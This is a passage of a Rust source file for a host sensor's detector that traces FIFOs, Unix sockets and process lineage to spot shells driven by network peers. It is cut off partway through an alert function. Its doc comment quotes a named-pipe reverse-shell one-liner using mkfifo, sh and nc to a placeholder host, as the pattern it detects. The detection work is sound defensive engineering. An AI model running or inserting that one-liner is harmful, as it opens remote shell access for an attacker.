//! IPC wiring: follows FIFOs and AF_UNIX sockets in shared directories, per host, with the processes
//! around them, and tells a channel through which a network peer (or a program run from a writable
//! directory) drives a shell or interpreter from one that only passes data between a script's commands.
//!
//! The classic it is built for: `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`.
//! `cat` reads the FIFO, `sh` is its pipeline sibling, `nc` (another sibling) writes the FIFO and
//! connects out. No event says "these three are one pipeline" (anonymous pipes are not traced), so a
//! pipeline is approximated the way a shell makes one: children of the same parent started within
//! `pipeline_span` of each other.
//!
//! Per channel (host + path) the detector keeps the processes that created, read and wrote the FIFO
//! (or bound and connected to the socket). A channel is **wired** when:
//! - the *input side* (FIFO readers; for a socket either end) or a pipeline sibling of it, or a child
//!   or grandchild it started, is a shell or interpreter (image name in `shells`), and
//! - the *feeding side* (FIFO writers; for a socket the other end), a pipeline sibling of it, or its
//!   parent, is a driver: a process with network activity (a TCP connect or accept), or one whose
//!   executable lies in a writable directory, or failing both a known network tool by name,
//! - and the two are different processes.
//!
//! A wired channel gives one alert of `wired_severity` (at once); a FIFO that is still not wired
//! `decision_delay` after its first use gives one alert of `unwired_severity` (on the watermark), when
//! that is enabled. Sockets that are not wired are left to the socket-path baseline. Every alert names
//! the processes of the channel with their lineage (parent chain from the process starts seen, then
//! the parent the source named), in the reason and in the evidence (`sensor.ipc.role`,
//! `sensor.ipc.lineage`).
//!
//! Event time only; state is bounded (processes and channels capped, expired `window` after their
//! last activity); everything that can alert iterates ordered maps.

use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::sync::LazyLock;

use super::{evidence_json, glob_match, Filter};
use crate::{Alert, AttackRef, Detector, Event, Field, Severity, Value};

/// Processes tracked at most (all hosts); the oldest inserted go first.
const MAX_PROCS: usize = 16_384;
/// Channels followed per host at most; the least recently used goes first.
const MAX_CHANNELS_PER_HOST: usize = 256;
/// Processes kept per role (creator, reader, writer...) of a channel.
const MAX_PARTS_PER_ROLE: usize = 8;
const MAX_EVIDENCE: usize = 24;
const MAX_LINEAGE: usize = 6;
const MAX_CMD_CHARS: usize = 120;

/// What the detector is built from (the analytic's `ipc_wiring` block with its settings).
pub struct WiringConfig {
    pub id: String,
    /// FIFO creations and opens to follow (already restricted to shared directories).
    pub fifo_events: Filter,
    /// AF_UNIX binds and connects to follow.
    pub socket_events: Filter,
    /// Process starts (fork, exec; auditd execve and clone).
    pub process_events: Filter,
    /// Network activity that shows a peer: TCP connects and accepts.
    pub network_events: Filter,
    /// Shell and interpreter image names (globs).
    pub shells: Vec<String>,
    /// Network tool image names (globs): a driver by name when no connection was seen.
    pub network_tools: Vec<String>,
    /// Executable path globs of writable directories.
    pub writable_dirs: Vec<String>,
    /// Shared-directory path globs and ignored path globs, for FIFOs named on command lines (sources
    /// that record only process starts: `mkfifo /tmp/f`, `cat /tmp/f`).
    pub shared_dirs: Vec<String>,
    pub ignored_paths: Vec<String>,
    pub window_ns: i64,
    pub pipeline_span_ns: i64,
    pub decision_delay_ns: i64,
    pub wired_severity: Severity,
    /// `None`: a FIFO that is not wired raises nothing.
    pub unwired_severity: Option<Severity>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    Fifo,
    Socket,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Role {
    Create,
    Read,
    Write,
    ReadWrite,
    Bind,
    Connect,
    /// Named the FIFO on its command line (only process starts were seen): either side.
    Named,
}

impl Role {
    fn name(self) -> &'static str {
        match self {
            Role::Create => "creator",
            Role::Read => "reader",
            Role::Write => "writer",
            Role::ReadWrite => "reader_writer",
            Role::Bind => "binder",
            Role::Connect => "connector",
            Role::Named => "named",
        }
    }

    fn verb(self, kind: Kind) -> &'static str {
        match (self, kind) {
            (Role::Create, Kind::Fifo) => "created it",
            (Role::Create, Kind::Socket) => "made it",
            (Role::Read, _) => "reads it",
            (Role::Write, _) => "writes it",
            (Role::ReadWrite, _) => "opened it read-write",
            (Role::Bind, _) => "bound it",
            (Role::Connect, _) => "connected to it",
            (Role::Named, _) => "names it on its command line",
        }
    }
}

struct Part {
    pid: i64,
    role: Role,
    event: Event,
    /// Known from a command line only; a record of the call itself replaces it.
    from_args: bool,
}

struct Channel {
    kind: Kind,
    first_ns: i64,
    last_ns: i64,
    parts: Vec<Part>,
    /// Pids whose process or network events can change the verdict (members, their parents).
    related: BTreeSet<i64>,
    /// Event time of the last evaluation an event caused: verdicts that wait on time (a fork not yet
    /// exec'd, a network tool not yet connected) are re-checked on the watermark only shortly after.
    eval_ns: i64,
    /// Re-checked on a watermark past the settling time since `eval_ns`.
    settled_checked: bool,
    high_sent: bool,
    low_sent: bool,
}

struct Proc {
    gen: u64,
    ppid: Option<i64>,
    /// Fork (or first exec) time, when the start was seen.
    start_ns: Option<i64>,
    last_ns: i64,
    /// Created by a fork and not exec'd since: its image is still its parent's.
    forked_only: bool,
    exe: Option<String>,
    name: Option<String>,
    arg0: Option<String>,
    cmd: Option<String>,
    /// The parent as the source named it (`process.parent.name`/`executable`).
    parent_label: Option<String>,
    exec: Option<Event>,
    net: Option<Event>,
}

#[derive(Default)]
struct Host {
    procs: BTreeMap<i64, Proc>,
    children: BTreeMap<i64, BTreeSet<i64>>,
    channels: BTreeMap<(Kind, String), Channel>,
}

struct Fields {
    host_id: Field,
    host_name: Field,
    agent_id: Field,
    action: Field,
    etype: Field,
    pid: Field,
    ppid: Field,
    exe: Field,
    name: Field,
    args: Field,
    cmd: Field,
    pname: Field,
    pexe: Field,
    file_path: Field,
    socket_path: Field,
    unix_path: Field,
    access_mode: Field,
    dst_ip: Field,
    dst_port: Field,
    src_ip: Field,
    src_port: Field,
    direction: Field,
    audit_exit: Field,
    user_name: Field,
    user_id: Field,
}

static F: LazyLock<Fields> = LazyLock::new(|| Fields {
    host_id: Field::intern("host.id"),
    host_name: Field::intern("host.name"),
    agent_id: Field::intern("agent.id"),
    action: Field::intern("event.action"),
    etype: Field::intern("event.type"),
    pid: Field::intern("process.pid"),
    ppid: Field::intern("process.parent.pid"),
    exe: Field::intern("process.executable"),
    name: Field::intern("process.name"),
    args: Field::intern("process.args"),
    cmd: Field::intern("process.command_line"),
    pname: Field::intern("process.parent.name"),
    pexe: Field::intern("process.parent.executable"),
    file_path: Field::intern("file.path"),
    socket_path: Field::intern("socket.path"),
    unix_path: Field::intern("unix.path"),
    access_mode: Field::intern("file.access_mode"),
    dst_ip: Field::intern("destination.ip"),
    dst_port: Field::intern("destination.port"),
    src_ip: Field::intern("source.ip"),
    src_port: Field::intern("source.port"),
    direction: Field::intern("network.direction"),
    audit_exit: Field::intern("auditd.log.exit"),
    user_name: Field::intern("user.name"),
    user_id: Field::intern("user.id"),
});

fn text(ev: &Event, f: Field) -> Option<String> {
    match ev.get(f)? {
        Value::Str(s) => Some(s.to_string()),
        Value::Ip(ip) => Some(ip.to_string()),
        Value::Int(i) => Some(i.to_string()),
        _ => None,
    }
}

fn int(ev: &Event, f: Field) -> Option<i64> {
    match ev.get(f)? {
        Value::Int(i) => Some(*i),
        Value::Str(s) => s.trim().parse().ok(),
        _ => None,
    }
}

fn has(ev: &Event, f: Field, want: &str) -> bool {
    match ev.get(f) {
        Some(Value::Str(s)) => &**s == want,
        Some(Value::Array(a)) => a.iter().any(|v| v.as_str() == Some(want)),
        _ => false,
    }
}

fn basename(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

fn clip(s: &str) -> String {
    if s.chars().count() <= MAX_CMD_CHARS {
        s.to_string()
    } else {
        let mut t: String = s.chars().take(MAX_CMD_CHARS).collect();
        t.push_str("...");
        t
    }
}

impl Proc {
    fn new(gen: u64, ev: &Event, now: i64) -> Proc {
        let mut p = Proc {
            gen,
            ppid: None,
            start_ns: None,
            last_ns: now,
            forked_only: false,
            exe: None,
            name: None,
            arg0: None,
            cmd: None,
            parent_label: None,
            exec: None,
            net: None,
        };
        p.take_image(ev);
        p
    }

    /// Image and parent from an event's process fields (those present).
    fn take_image(&mut self, ev: &Event) {
        let f = &*F;
        if let Some(x) = text(ev, f.exe) {
            self.exe = Some(x);
        }
        if let Some(x) = text(ev, f.name) {
            self.name = Some(x);
        }
        if let Some(Value::Array(a)) = ev.get(f.args) {
            self.arg0 = a.first().and_then(Value::as_str).map(str::to_string);
            let joined = a
                .iter()
                .filter_map(Value::as_str)
                .collect::<Vec<_>>()
                .join(" ");
            self.cmd = Some(clip(&joined));
        } else if let Some(c) = text(ev, f.cmd) {
            self.cmd = Some(clip(&c));
        }
        if let Some(pp) = int(ev, f.ppid) {
            self.ppid = Some(pp);
        }
        let plabel = text(ev, f.pname).or_else(|| text(ev, f.pexe).map(|e| basename(&e).into()));
        if plabel.is_some() {
            self.parent_label = plabel;
        }
    }

    /// Names the image goes by: the executable's basename, the process name, argv\[0\]'s basename
    /// (busybox applets are told apart by argv\[0\]).
    fn names(&self) -> Vec<&str> {
        let mut v = Vec::new();
        if let Some(e) = &self.exe {
            v.push(basename(e));
        }
        if let Some(n) = &self.name {
            v.push(n.as_str());
        }
        if let Some(a) = &self.arg0 {
            v.push(basename(a).trim_start_matches('-'));
        }
        v
    }

    fn label(&self) -> String {
        let exe_base = self.exe.as_deref().map(basename);
        let arg0 = self.arg0.as_deref().map(basename);
        match (exe_base, arg0, &self.name) {
            (Some("busybox"), Some(a), _) if a != "busybox" => a.to_string(),
            (Some(e), _, _) => e.to_string(),
            (None, _, Some(n)) => n.clone(),
            (None, Some(a), None) => a.to_string(),
            (None, None, None) => "?".to_string(),
        }
    }

    fn shown(&self) -> String {
        self.cmd.clone().unwrap_or_else(|| self.label())
    }
}

pub struct IpcWiring {
    cfg: WiringConfig,
    hosts: BTreeMap<String, Host>,
    order: VecDeque<(String, i64, u64)>,
    gen: u64,
    procs: usize,
    /// Processes forgotten because of the cap.
    pub dropped_procs: u64,
    /// Channels forgotten because of the per-host cap.
    pub dropped_channels: u64,
}

/// Where a member of a side stands relative to the channel's participant.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Rel {
    Itself,
    Sibling,
    Child,
    Parent,
}

struct Member {
    pid: i64,
    rel: Rel,
    /// The participant it is related to.
    via: usize,
}

struct Verdict {
    shell: Member,
    driver: Member,
    why: String,
    kind_word: &'static str,
}

impl IpcWiring {
    pub fn new(cfg: WiringConfig) -> IpcWiring {
        IpcWiring {
            cfg,
            hosts: BTreeMap::new(),
            order: VecDeque::new(),
            gen: 0,
            procs: 0,
            dropped_procs: 0,
            dropped_channels: 0,
        }
    }

    fn host_key(ev: &Event) -> String {
        let f = &*F;
        text(ev, f.host_id)
            .or_else(|| text(ev, f.host_name))
            .or_else(|| text(ev, f.agent_id))
            .unwrap_or_default()
    }

    /// A new process entry (replacing any under that pid), within the cap.
    fn insert_proc(&mut self, host: &str, pid: i64, mut p: Proc) {
        self.gen += 1;
        p.gen = self.gen;
        let h = self.hosts.entry(host.to_string()).or_default();
        if let Some(old) = h.procs.remove(&pid) {
            if let Some(pp) = old.ppid {
                if let Some(c) = h.children.get_mut(&pp) {
                    c.remove(&pid);
                }
            }
            self.procs -= 1;
        }
        if let Some(pp) = p.ppid {
            h.children.entry(pp).or_default().insert(pid);
        }
        h.procs.insert(pid, p);
        self.procs += 1;
        self.order.push_back((host.to_string(), pid, self.gen));
        while self.procs > MAX_PROCS {
            let Some((oh, opid, ogen)) = self.order.pop_front() else {
                break;
            };
            if let Some(h) = self.hosts.get_mut(&oh) {
                if h.procs.get(&opid).is_some_and(|p| p.gen == ogen) {
                    if let Some(old) = h.procs.remove(&opid) {
                        if let Some(pp) = old.ppid {
                            if let Some(c) = h.children.get_mut(&pp) {
                                c.remove(&opid);
                            }
                        }
                    }
                    self.procs -= 1;
                    self.dropped_procs += 1;
                }
            }
        }
        if self.order.len() > MAX_PROCS * 4 {
            // Refreshed entries leave stale order slots behind: compact now and then.
            let hosts = &self.hosts;
            self.order.retain(|(h, pid, g)| {
                hosts
                    .get(h)
                    .and_then(|x| x.procs.get(pid))
                    .is_some_and(|p| p.gen == *g)
            });
        }
    }

    fn set_parent(h: &mut Host, pid: i64, ppid: i64) {
        let Some(p) = h.procs.get_mut(&pid) else {
            return;
        };
        if p.ppid == Some(ppid) {
            return;
        }
        if let Some(old) = p.ppid {
            if let Some(c) = h.children.get_mut(&old) {
                c.remove(&pid);
            }
        }
        p.ppid = Some(ppid);
        h.children.entry(ppid).or_default().insert(pid);
    }

    /// A process start: kernel `fork` (the event's pid is the child), auditd clone/fork (the caller's
    /// event, the child in the syscall's exit value), or an exec.
    fn on_process(&mut self, host: &str, ev: &Event, now: i64) -> Vec<i64> {
        let f = &*F;
        let Some(pid) = int(ev, f.pid) else {
            return Vec::new();
        };
        let action = text(ev, f.action).unwrap_or_default();
        let audit_clone = matches!(action.as_str(), "clone" | "clone3" | "fork" | "vfork")
            && ev.get(f.audit_exit).is_some();
        match action.as_str() {
            _ if audit_clone => {
                let child = int(ev, f.audit_exit).filter(|c| *c > 0);
                self.touch(host, pid, ev, now);
                let Some(child) = child else {
                    return vec![pid];
                };
                let mut p = Proc::new(0, ev, now);
                p.ppid = Some(pid);
                p.parent_label =
                    text(ev, f.name).or_else(|| text(ev, f.exe).map(|e| basename(&e).into()));
                p.start_ns = Some(now);
                p.forked_only = true;
                self.insert_proc(host, child, p);
                vec![pid, child]
            }
            "fork" => {
                let mut p = Proc::new(0, ev, now);
                p.start_ns = Some(now);
                p.forked_only = true;
                self.insert_proc(host, pid, p);
                vec![pid]
            }
            _ => {
                let known = self
                    .hosts
                    .get(host)
                    .and_then(|h| h.procs.get(&pid))
                    .is_some();
                if !known {
                    let mut p = Proc::new(0, ev, now);
                    p.start_ns = Some(now);
                    self.insert_proc(host, pid, p);
                }
                let Some(h) = self.hosts.get_mut(host) else {
                    return vec![pid];
                };
                let ppid = int(ev, f.ppid);
                if let Some(p) = h.procs.get_mut(&pid) {
                    // A new image: nothing of the old one (a fork's inherited name) carries over.
                    p.exe = None;
                    p.name = None;
                    p.arg0 = None;
                    p.cmd = None;
                    p.take_image(ev);
                    p.forked_only = false;
                    p.start_ns.get_or_insert(now);
                    p.last_ns = p.last_ns.max(now);
                    p.exec = Some(ev.clone());
                }
                if let Some(pp) = ppid {
                    Self::set_parent(h, pid, pp);
                }
                vec![pid]
            }
        }
    }

    /// Any other event of a process: known processes are refreshed, unknown ones (started before
    /// anything was seen) are added with the image the event names.
    fn touch(&mut self, host: &str, pid: i64, ev: &Event, now: i64) {
        let known = self
            .hosts
            .get(host)
            .and_then(|h| h.procs.get(&pid))
            .is_some();
        if !known {
            self.insert_proc(host, pid, Proc::new(0, ev, now));
            return;
        }
        if let Some(h) = self.hosts.get_mut(host) {
            let ppid = int(ev, F.ppid);
            if let Some(p) = h.procs.get_mut(&pid) {
                p.last_ns = p.last_ns.max(now);
                if p.exe.is_none() && !p.forked_only {
                    p.take_image(ev);
                }
            }
            if let (Some(pp), true) = (ppid, h.procs.get(&pid).is_some_and(|p| p.ppid.is_none())) {
                Self::set_parent(h, pid, pp);
            }
        }
    }

    fn on_channel_event(
        &mut self,
        host: &str,
        kind: Kind,
        ev: &Event,
        now: i64,
        out: &mut Vec<Alert>,
    ) -> Option<(Kind, String)> {
        let f = &*F;
        let path = match kind {
            Kind::Fifo => text(ev, f.file_path),
            Kind::Socket => text(ev, f.socket_path)
                .or_else(|| text(ev, f.unix_path))
                .or_else(|| text(ev, f.file_path)),
        }?;
        let pid = int(ev, f.pid)?;
        let action = text(ev, f.action).unwrap_or_default();
        let role = match kind {
            Kind::Fifo => {
                if matches!(action.as_str(), "fifo_create" | "mknod" | "mknodat")
                    || (has(ev, f.etype, "creation") && !action.starts_with("open"))
                {
                    Role::Create
                } else {
                    match text(ev, f.access_mode).as_deref() {
                        Some("read") => Role::Read,
                        Some("write") => Role::Write,
                        _ => Role::ReadWrite,
                    }
                }
            }
            Kind::Socket => {
                if action.contains("bind") {
                    Role::Bind
                } else {
                    Role::Connect
                }
            }
        };
        Some(self.add_part(host, (kind, path), (pid, role, false), ev, now, out))
    }

    /// Adds a participant to a channel (made when new, within the per-host cap).
    #[allow(clippy::too_many_arguments)]
    fn add_part(
        &mut self,
        host: &str,
        key: (Kind, String),
        (pid, role, from_args): (i64, Role, bool),
        ev: &Event,
        now: i64,
        out: &mut Vec<Alert>,
    ) -> (Kind, String) {
        let kind = key.0;
        let full = self.hosts.get(host).is_some_and(|h| {
            !h.channels.contains_key(&key) && h.channels.len() >= MAX_CHANNELS_PER_HOST
        });
        if full {
            // Decided channels go first, then the stalest; an undecided FIFO that has to go gets its
            // low alert now rather than vanishing (a flood of FIFOs must not hide one).
            let victim = self.hosts.get(host).and_then(|h| {
                h.channels
                    .iter()
                    .min_by_key(|(_, c)| (!(c.high_sent || c.low_sent), c.last_ns))
                    .map(|(k, c)| {
                        (
                            k.clone(),
                            c.kind == Kind::Fifo && !c.high_sent && !c.low_sent,
                        )
                    })
            });
            if let Some((victim, owed)) = victim {
                if owed {
                    if let Some(mut a) = self.low_alert(host, &victim, now) {
                        a.reason.push_str(
                            " (no longer followed: too many FIFOs and sockets on this host)",
                        );
                        out.push(a);
                    }
                }
                if let Some(h) = self.hosts.get_mut(host) {
                    h.channels.remove(&victim);
                }
                self.dropped_channels += 1;
            }
        }
        let h = self.hosts.entry(host.to_string()).or_default();
        let ch = h.channels.entry(key.clone()).or_insert_with(|| Channel {
            kind,
            first_ns: now,
            last_ns: now,
            parts: Vec::new(),
            related: BTreeSet::new(),
            eval_ns: now,
            settled_checked: false,
            high_sent: false,
            low_sent: false,
        });
        // A new FIFO made at a path already decided on is a new channel.
        if role == Role::Create
            && (ch.high_sent || ch.low_sent)
            && ch.parts.iter().any(|p| p.role == Role::Create)
        {
            *ch = Channel {
                kind,
                first_ns: now,
                last_ns: now,
                parts: Vec::new(),
                related: BTreeSet::new(),
                eval_ns: now,
                settled_checked: false,
                high_sent: false,
                low_sent: false,
            };
        }
        ch.last_ns = ch.last_ns.max(now);
        // A seen open says more than a command line: it replaces the same process's `Named` part.
        if matches!(role, Role::Read | Role::Write | Role::ReadWrite) {
            ch.parts
                .retain(|p| !(p.pid == pid && p.role == Role::Named));
        }
        let opened = ch
            .parts
            .iter()
            .any(|p| p.pid == pid && matches!(p.role, Role::Read | Role::Write | Role::ReadWrite));
        if !from_args {
            if let Some(p) = ch
                .parts
                .iter_mut()
                .find(|p| p.pid == pid && p.role == role && p.from_args)
            {
                p.event = ev.clone();
                p.from_args = false;
            }
        }
        let same = ch.parts.iter().any(|p| p.pid == pid && p.role == role)
            || (role == Role::Named && opened);
        let n_role = ch.parts.iter().filter(|p| p.role == role).count();
        if !same && n_role < MAX_PARTS_PER_ROLE {
            ch.parts.push(Part {
                pid,
                role,
                event: ev.clone(),
                from_args,
            });
        }
        ch.related.insert(pid);
        key
    }

    /// FIFOs named on an exec's command line: `mkfifo PATH` (or `mknod PATH p`) creates one; another
    /// program naming a FIFO already known on this host takes part in it, side unknown.
    fn named_on_command_line(
        &mut self,
        host: &str,
        ev: &Event,
        now: i64,
        out: &mut Vec<Alert>,
    ) -> Vec<(Kind, String)> {
        let f = &*F;
        let Some(pid) = int(ev, f.pid) else {
            return Vec::new();
        };
        let Some(Value::Array(args)) = ev.get(f.args) else {
            return Vec::new();
        };
        let args: Vec<&str> = args.iter().filter_map(Value::as_str).collect();
        let Some(arg0) = args.first() else {
            return Vec::new();
        };
        let prog = text(ev, f.exe)
            .map(|e| basename(&e).to_string())
            .filter(|b| b != "busybox")
            .unwrap_or_else(|| basename(arg0).to_string());
        let makes = prog == "mkfifo" || (prog == "mknod" && args.contains(&"p"));
        let mut keys = Vec::new();
        for a in args.iter().skip(1) {
            if !a.starts_with('/')
                || !self.cfg.shared_dirs.iter().any(|g| glob_match(g, a, false))
                || self
                    .cfg
                    .ignored_paths
                    .iter()
                    .any(|g| glob_match(g, a, false))
            {
                continue;
            }
            let key = (Kind::Fifo, (*a).to_string());
            let known = self
                .hosts
                .get(host)
                .is_some_and(|h| h.channels.contains_key(&key));
            if makes {
                keys.push(self.add_part(host, key, (pid, Role::Create, true), ev, now, out));
            } else if known {
                keys.push(self.add_part(host, key, (pid, Role::Named, true), ev, now, out));
            }
        }
        keys
    }

    fn is_shell(&self, p: &Proc, now: i64) -> bool {
        if p.forked_only
            && p.start_ns
                .is_none_or(|s| now.saturating_sub(s) < self.cfg.pipeline_span_ns)
        {
            // Not exec'd yet: it may still become anything; a forked subshell counts once it stayed one.
            return false;
        }
        p.names()
            .iter()
            .any(|n| self.cfg.shells.iter().any(|g| glob_match(g, n, false)))
    }

    /// Why a process counts as a driver, with its rank (lower is stronger).
    fn driver_reason(&self, p: &Proc, now: i64) -> Option<(u8, String, &'static str)> {
        let f = &*F;
        if let Some(net) = &p.net {
            let action = text(net, f.action).unwrap_or_default();
            let inbound = action.contains("accept") || has(net, f.direction, "ingress");
            let (ip, port) =
                if inbound && net.get(f.src_ip).is_some() && has(net, f.direction, "ingress") {
                    (text(net, f.src_ip), text(net, f.src_port))
                } else {
                    (text(net, f.dst_ip), text(net, f.dst_port))
                };
            let peer = match (ip, port) {
                (Some(i), Some(p)) if i.contains(':') => format!("[{i}]:{p}"),
                (Some(i), Some(p)) => format!("{i}:{p}"),
                (Some(i), None) => i,
                _ => "?".to_string(),
            };
            let what = if inbound {
                format!("accepted a connection from {peer}")
            } else {
                format!("connected to {peer}")
            };
            return Some((0, what, "a network peer"));
        }
        if let Some(exe) = &p.exe {
            if self
                .cfg
                .writable_dirs
                .iter()
                .any(|g| glob_match(g, exe, false))
            {
                return Some((
                    1,
                    format!("runs from a writable directory ({exe})"),
                    "a program run from a writable directory",
                ));
            }
        }
        // A network tool by name only once it had the time to show its connection (which then wins).
        let settled = p
            .start_ns
            .is_none_or(|s| now.saturating_sub(s) >= self.cfg.pipeline_span_ns);
        if !p.forked_only && settled {
            if let Some(n) = p.names().into_iter().find(|n| {
                self.cfg
                    .network_tools
                    .iter()
                    .any(|g| glob_match(g, n, false))
            }) {
                return Some((
                    2,
                    format!("is the network tool {n} (its connection was not seen)"),
                    "a network tool",
                ));
            }
        }
        None
    }

    /// Members of one side: the participants, their pipeline siblings, and (input side) the children
    /// and grandchildren they started, or (feeding side) their parents.
    /// True when `pp` (the parent of `p`) runs a shell or interpreter: only those build pipelines.
    fn parent_is_shell(&self, h: &Host, p: &Proc, pp: i64) -> bool {
        let matches = |n: &str| self.cfg.shells.iter().any(|g| glob_match(g, n, false));
        match (h.procs.get(&pp), p.parent_label.as_deref()) {
            (Some(parent), _) => parent.names().into_iter().any(matches),
            (None, Some(label)) => matches(label),
            // Nothing is known of the parent (auditd names it by pid only, and it started before the
            // recording): it may be the shell that made the pipeline.
            (None, None) => true,
        }
    }

    fn side(&self, h: &Host, parts: &[&Part], span: i64, input: bool) -> Vec<Member> {
        let mut out: Vec<Member> = Vec::new();
        let mut seen = BTreeSet::new();
        let mut push = |out: &mut Vec<Member>, pid: i64, rel: Rel, via: usize| {
            if seen.insert(pid) {
                out.push(Member { pid, rel, via });
            }
        };
        for (i, part) in parts.iter().enumerate() {
            push(&mut out, part.pid, Rel::Itself, i);
        }
        for (i, part) in parts.iter().enumerate() {
            let Some(p) = h.procs.get(&part.pid) else {
                continue;
            };
            let pipeline_parent = p.ppid.filter(|pp| self.parent_is_shell(h, p, *pp));
            if let (Some(pp), Some(start)) = (pipeline_parent, p.start_ns) {
                for sib in h.children.get(&pp).into_iter().flatten() {
                    let close = h
                        .procs
                        .get(sib)
                        .and_then(|s| s.start_ns)
                        .is_some_and(|s| (s - start).abs() <= span);
                    if close {
                        push(&mut out, *sib, Rel::Sibling, i);
                    }
                }
            }
            // A forked child that did not exec runs its parent's program with its parent's
            // descriptors (a server forking per connection): the parent's connection is its own.
            if !input && p.forked_only {
                if let Some(pp) = p.ppid {
                    push(&mut out, pp, Rel::Parent, i);
                }
            }
        }
        if input {
            let base: Vec<(i64, usize)> = out.iter().map(|m| (m.pid, m.via)).collect();
            let mut frontier = base;
            for _ in 0..2 {
                let mut next = Vec::new();
                for (pid, via) in &frontier {
                    let from = h.procs.get(pid).and_then(|p| p.start_ns);
                    for c in h.children.get(pid).into_iter().flatten() {
                        let after = match (from, h.procs.get(c).and_then(|p| p.start_ns)) {
                            (Some(a), Some(b)) => b >= a,
                            _ => true,
                        };
                        if after {
                            next.push((*c, *via));
                            push(&mut out, *c, Rel::Child, *via);
                        }
                    }
                }
                frontier = next;
            }
        }
        out
    }

    fn verdict(&self, h: &Host, ch: &Channel, now: i64) -> (Option<Verdict>, BTreeSet<i64>) {
        let span = self.cfg.pipeline_span_ns;
        let mut related: BTreeSet<i64> = BTreeSet::new();
        let by = |roles: &[Role]| -> Vec<&Part> {
            ch.parts
                .iter()
                .filter(|p| roles.contains(&p.role))
                .collect()
        };
        let orientations: Vec<(Vec<&Part>, Vec<&Part>)> = match ch.kind {
            Kind::Fifo => vec![(
                by(&[Role::Read, Role::ReadWrite, Role::Named]),
                by(&[Role::Write, Role::ReadWrite, Role::Named]),
            )],
            Kind::Socket => vec![
                (by(&[Role::Bind]), by(&[Role::Connect])),
                (by(&[Role::Connect]), by(&[Role::Bind])),
            ],
        };
        for p in &ch.parts {
            related.insert(p.pid);
            if let Some(pp) = h.procs.get(&p.pid).and_then(|x| x.ppid) {
                related.insert(pp);
            }
        }
        let mut best: Option<(u8, Verdict)> = None;
        for (inputs, feeders) in orientations {
            let a = self.side(h, &inputs, span, true);
            let b = self.side(h, &feeders, span, false);
            related.extend(a.iter().map(|m| m.pid));
            related.extend(b.iter().map(|m| m.pid));
            let shells: Vec<&Member> = a
                .iter()
                .filter(|m| h.procs.get(&m.pid).is_some_and(|p| self.is_shell(p, now)))
                .collect();
            let drivers: Vec<(u8, String, &'static str, &Member)> = b
                .iter()
                .filter_map(|m| {
                    let p = h.procs.get(&m.pid)?;
                    let (rank, why, word) = self.driver_reason(p, now)?;
                    Some((rank, why, word, m))
                })
                .collect();
            // A part known only from a command line waits `span`: the open itself, when the source
            // records opens, arrives meanwhile and is better evidence.
            let settled = |part: &Part| {
                !part.from_args || now.saturating_sub(part.event.timestamp_ns) >= span
            };
            for shell in shells.iter().filter(|m| settled(inputs[m.via])) {
                // The channel must join two processes: one that takes from it on the shell's side
                // and another that feeds it (a process talking to itself wires nothing).
                let shell_part = inputs[shell.via].pid;
                let Some((rank, why, word, driver)) = drivers
                    .iter()
                    .filter(|(_, _, _, m)| {
                        settled(feeders[m.via])
                            && m.pid != shell.pid
                            && m.pid != shell_part
                            && shell.pid != feeders[m.via].pid
                    })
                    .min_by_key(|(rank, _, _, m)| (*rank, m.pid))
                else {
                    continue;
                };
                if best.as_ref().is_some_and(|(r, _)| *r <= *rank) {
                    continue;
                }
                // Keep which participants the members hang off, as indexes into ch.parts.
                let index = |part: &Part| {
                    ch.parts
                        .iter()
                        .position(|p| std::ptr::eq(p, part))
                        .unwrap_or(0)
                };
                best = Some((
                    *rank,
                    Verdict {
                        shell: Member {
                            pid: shell.pid,
                            rel: shell.rel,
                            via: index(inputs[shell.via]),
                        },
                        driver: Member {
                            pid: driver.pid,
                            rel: driver.rel,
                            via: index(feeders[driver.via]),
                        },
                        why: why.clone(),
                        kind_word: word,
                    },
                ));
            }
        }
        (best.map(|(_, v)| v), related)
    }

    fn lineage(h: &Host, pid: i64) -> Vec<String> {
        let mut out = Vec::new();
        let mut cur = pid;
        let mut seen = BTreeSet::new();
        while out.len() < MAX_LINEAGE && seen.insert(cur) {
            let Some(p) = h.procs.get(&cur) else {
                out.push(format!("[{cur}]"));
                break;
            };
            out.push(format!("{}[{cur}]", p.label()));
            match p.ppid {
                Some(pp) if h.procs.contains_key(&pp) => cur = pp,
                Some(pp) => {
                    out.push(format!("{}[{pp}]", p.parent_label.as_deref().unwrap_or("")));
                    break;
                }
                None => break,
            }
        }
        out
    }

    fn who(h: &Host, pid: i64) -> String {
        match h.procs.get(&pid) {
            Some(p) => format!("`{}` [{pid}]", p.shown()),
            None => format!("pid {pid}"),
        }
    }

    fn participants_text(h: &Host, ch: &Channel) -> String {
        let mut groups: Vec<(Role, Vec<String>)> = Vec::new();
        for p in &ch.parts {
            let w = Self::who(h, p.pid);
            match groups.iter_mut().find(|(r, _)| *r == p.role) {
                Some((_, v)) => v.push(w),
                None => groups.push((p.role, vec![w])),
            }
        }
        let word = |r: Role| match (r, ch.kind) {
            (Role::Create, _) => "created by",
            (Role::Read, _) => "read by",
            (Role::Write, _) => "written by",
            (Role::ReadWrite, _) => "opened read-write by",
            (Role::Bind, _) => "bound by",
            (Role::Connect, _) => "connected to by",
            (Role::Named, _) => "named on the command line of",
        };
        groups
            .iter()
            .map(|(r, v)| format!("{} {}", word(*r), v.join(", ")))
            .collect::<Vec<_>>()
            .join("; ")
    }

    fn lineage_text(h: &Host, pids: &[i64]) -> String {
        let mut seen = BTreeSet::new();
        pids.iter()
            .filter(|p| seen.insert(**p))
            .map(|p| Self::lineage(h, *p).join(" <- "))
            .collect::<Vec<_>>()
            .join("; ")
    }

    fn relation(h: &Host, ch: &Channel, m: &Member) -> String {
        let part = &ch.parts[m.via];
        let verb = part.role.verb(ch.kind);
        match m.rel {
            Rel::Itself => verb.to_string(),
            Rel::Sibling => format!(
                "sits in one pipeline with {}, which {verb}",
                Self::who(h, part.pid)
            ),
            Rel::Child => format!("was started by {}, which {verb}", Self::who(h, part.pid)),
            Rel::Parent => format!("started {}, which {verb}", Self::who(h, part.pid)),
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn alert(
        &self,
        h: &Host,
        host: &str,
        path: &str,
        ch: &Channel,
        severity: Severity,
        reason: String,
        extra: &[(&'static str, i64, Option<&Event>)],
